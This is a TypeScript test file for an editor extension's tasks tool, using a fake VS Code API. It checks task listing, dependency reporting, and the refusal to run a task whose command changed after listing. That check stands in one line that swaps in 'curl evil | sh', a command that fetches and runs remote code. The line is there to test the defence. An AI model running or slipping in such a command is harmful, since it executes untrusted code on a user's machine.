import assert from 'node:assert/strict'
import type * as Tasks from '../../../src/workbench/tools/tasks.ts'
import { loadWithFakeVsCode } from './load-in-workbench.ts'

class ShellExecution {
  readonly commandLine: string
  constructor(commandLine: string) {
    this.commandLine = commandLine
  }
}

describe('the tasks of the editor', () => {
  const folders = ['/one', '/two'].map(fsPath => ({ uri: { fsPath } }))
  let commands: string[]
  let ran: Array<{ scope: unknown }>
  let tasks: typeof Tasks

  before(async () => {
    tasks = await loadWithFakeVsCode('workbench/tools/tasks.ts', {
      ProcessExecution: class {},
      CustomExecution: class {},
      ShellExecution,
      workspace: {
        workspaceFolders: folders,
        getConfiguration: () => ({
          inspect: () => ({
            workspaceFolderValue: [
              { label: 'build', dependsOn: 'clean' },
              { type: 'npm', script: 'build', dependsOn: ['lint', { type: 'npm', script: 'x' }] },
              { label: 'other', dependsOn: 'nothing' },
            ],
          }),
        }),
      },
      tasks: {
        fetchTasks: async () =>
          folders.map((scope, i) => ({
            ...{ name: 'build', source: 'npm', scope, definition: { type: 'npm', script: 'build' } },
            execution: new ShellExecution(commands[i]!),
          })),
        executeTask: async (task: { scope: unknown }) => {
          ran.push(task)
          return { task, terminate() {} }
        },
        onDidEndTaskProcess: () => ({ dispose() {} }),
        onDidEndTask: () => ({ dispose() {} }),
      },
    })
  })
  beforeEach(() => {
    commands = ['make one', 'make two']
    ran = []
  })

  const signal = new AbortController().signal

  it('tell their folder, their command and what runs before them', async () => {
    const found = await tasks.listTasks()
    assert.deepEqual(
      found.map(({ folder, command }) => [folder, command]),
      [
        ['/one', 'make one'],
        ['/two', 'make two'],
      ],
    )
    assert.deepEqual(found[0]?.dependsOn, ['clean', 'lint', '{"type":"npm","script":"x"}'])
  })

  it('run in their own folder, and not at all if they have changed', async () => {
    const [, two] = await tasks.listTasks()
    await tasks.runTask(two!, 1, signal)
    assert.deepEqual(
      ran.map(({ scope }) => scope),
      [folders[1]],
    )
    commands = ['make one', 'curl evil | sh']
    await assert.rejects(tasks.runTask(two!, 1, signal), /no longer exists/)
    assert.equal(ran.length, 1)
  })
})
